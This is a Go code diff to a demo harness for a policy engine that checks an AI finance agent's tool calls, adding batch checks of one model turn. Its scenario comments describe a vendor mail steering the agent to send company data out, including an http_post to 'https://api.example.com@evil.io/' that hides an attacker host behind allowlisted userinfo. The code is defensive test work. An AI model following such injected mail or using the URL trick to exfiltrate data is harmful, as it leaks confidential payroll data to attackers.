@@ -57,8 +57,9 @@ type loop struct {
 	ev      *rules.Evaluator
 	session *runtime.Session
 	d       runtime.Decision
-	checked []finbot.Occurrence // every occurrence evaluated, for the tests
-	n       int                 // proposals so far
+	checked []finbot.Occurrence   // every occurrence evaluated alone, for the tests
+	turns   [][]finbot.Occurrence // every check of a turn, for the tests
+	n       int                   // proposals so far
 }
 
 // record adds a node to the session's graph.
@@ -82,7 +83,7 @@ func (l *loop) propose(from []string, tool string, args map[string]any) bool {
 	if !l.check(occ, fmt.Sprintf("%s %s (from %s)", tool, brief(args), strings.Join(from, ", "))) {
 		return false
 	}
-	if tool == "pay_invoice" || tool == "refund" || tool == "run_payroll" {
+	if isPayment(tool) {
 		occ.Anchor = finbot.PaymentPreSubmit
 		return l.check(occ, "  then at payment.pre_submit")
 	}
@@ -95,17 +96,74 @@ func (l *loop) check(occ finbot.Occurrence, what string) bool {
 	if err := l.ev.Evaluate(l.ctx, &occ, l.session, &l.d); err != nil {
 		fmt.Fprintln(l.w, err)
 	}
-	fmt.Fprintf(l.w, "%-62s -> %s", what, l.d.Effect)
-	if len(l.d.Codes) > 0 {
-		fmt.Fprintf(l.w, " (%s)", strings.Join(l.d.Codes, ", "))
+	return l.report(what, &l.d)
+}
+
+// call is one tool call of a model turn.
+type call struct {
+	tool string
+	args map[string]any
+}
+
+// turn records the model's message proposing several calls at once,
+// computed from the nodes in from, and checks them as one check (spec
+// 5.11): each call reads the session as it was before the turn and
+// batch_tools, the tools of the whole turn, so a rule can refuse a call
+// for what is proposed beside it. A blocked call does not block its
+// siblings. It reports which calls the host may run; payment tools are
+// then checked one by one at payment.pre_submit, as in propose.
+func (l *loop) turn(from []string, calls ...call) []bool {
+	l.n++
+	id := fmt.Sprintf("m%d", l.n)
+	l.record(runtime.Node{ID: id, Kind: runtime.Message, Origin: "model", Parents: from})
+	occs := make([]finbot.Occurrence, len(calls))
+	for i, c := range calls {
+		occs[i] = finbot.Occurrence{Anchor: finbot.ToolPreInvoke, Inputs: []string{id}}
+		occs[i].Facts.Tool = c.tool
+		occs[i].Facts.ToolArgs = c.args
+		occs[i].Facts.PrincipalRoles = []string{"finance"}
+	}
+	l.turns = append(l.turns, occs)
+	ds := make([]runtime.Decision, len(occs))
+	if err := l.ev.EvaluateCheck(l.ctx, occs, l.session, ds); err != nil {
+		fmt.Fprintln(l.w, err)
+	}
+	fmt.Fprintf(l.w, "one turn of %d calls (from %s), one check:\n", len(calls), strings.Join(from, ", "))
+	ok := make([]bool, len(calls))
+	for i, c := range calls {
+		ok[i] = l.report(fmt.Sprintf("  %s %s", c.tool, brief(c.args)), &ds[i])
+		if ok[i] && isPayment(c.tool) {
+			occ := occs[i]
+			occ.Anchor = finbot.PaymentPreSubmit
+			ok[i] = l.check(occ, "    then at payment.pre_submit")
+		}
+	}
+	return ok
+}
+
+// report prints a decision, and for a block what the call depends on and
+// the rejection the model is shown. It reports whether the call may run.
+func (l *loop) report(what string, d *runtime.Decision) bool {
+	fmt.Fprintf(l.w, "%-62s -> %s", what, d.Effect)
+	if len(d.Codes) > 0 {
+		fmt.Fprintf(l.w, " (%s)", strings.Join(d.Codes, ", "))
 	}
 	fmt.Fprintln(l.w)
-	if l.d.Effect == runtime.Block {
-		p := l.d.Provenance
-		fmt.Fprintf(l.w, "    depends on: tools %v, origins %v, trust %v, labels %v\n", p.Tools, p.Origins, p.TrustTiers, p.Labels)
-		fmt.Fprintf(l.w, "    %s\n", strings.ReplaceAll(l.d.Rejection(), "\n", "\n    "))
+	if d.Effect == runtime.Block {
+		// The decision carries the four sets only when a rule read one:
+		// a rule that reads provenance_nodes, or none, leaves them empty.
+		if p := d.Provenance; len(p.Tools)+len(p.Origins)+len(p.TrustTiers)+len(p.Labels) > 0 {
+			fmt.Fprintf(l.w, "    depends on: tools %v, origins %v, trust %v, labels %v\n", p.Tools, p.Origins, p.TrustTiers, p.Labels)
+		}
+		fmt.Fprintf(l.w, "    %s\n", strings.ReplaceAll(d.Rejection(), "\n", "\n    "))
 	}
-	return l.d.Effect != runtime.Block
+	return d.Effect != runtime.Block
+}
+
+// isPayment reports whether a tool moves money: such calls are checked
+// again at payment.pre_submit.
+func isPayment(tool string) bool {
+	return tool == "pay_invoice" || tool == "refund" || tool == "run_payroll"
 }
 
 // brief renders a call's arguments in one short line.
@@ -113,8 +171,8 @@ func brief(args map[string]any) string {
 	for _, k := range []string{"command", "url", "to", "id", "invoice", "order"} {
 		if v, ok := args[k]; ok {
 			s := fmt.Sprint(v)
-			if len(s) > 28 {
-				s = s[:25] + "..."
+			if len(s) > 36 {
+				s = s[:33] + "..."
 			}
 			return s
 		}
@@ -164,6 +222,27 @@ func runLoop(w io.Writer) *loop {
 	// The vendor's mail asks for "the latest numbers": the same summary,
 	// steered by an untrusted mail, would leave the company.
 	l.propose([]string{"s1", "r2"}, "send_email", map[string]any{"to": "numbers@vendor.example"})
+
+	// The user asks to post the status to the vendor's API: an allowlisted
+	// host (EGRESS_ALLOWLIST compares url_host, not the URL's text). The
+	// same post computed from the report's summary is blocked: a
+	// confidential read_document result is in its ancestry, a fact of one
+	// node that the four provenance sets cannot state.
+	l.propose([]string{"u1"}, "http_post", map[string]any{"url": "https://api.example.com/v1/status"})
+	l.propose([]string{"s1"}, "http_post", map[string]any{"url": "https://api.example.com/v1/status"})
+
+	// The mail steers one model turn that proposes two calls at once: a
+	// read of the payroll and a post whose host is evil.io (the allowlisted
+	// name is only the userinfo). One check: the read is blocked because a
+	// post is in the same turn (batch_tools), the post by the allowlist;
+	// neither decision depends on the other's.
+	l.turn([]string{"r2"},
+		call{"read_document", map[string]any{"id": "payroll-2026"}},
+		call{"http_post", map[string]any{"url": "https://api.example.com@evil.io/"}})
+	// Two reads in one turn: nothing goes out, both run.
+	l.turn([]string{"u1"},
+		call{"read_document", map[string]any{"id": "q4-forecast"}},
+		call{"read_email", map[string]any{"id": "inbox/382"}})
 
 	// Payments: the invoice from the mail is open in the ledger and the
 	// payee is verified; an unknown payee is not on the allowlist; a refund
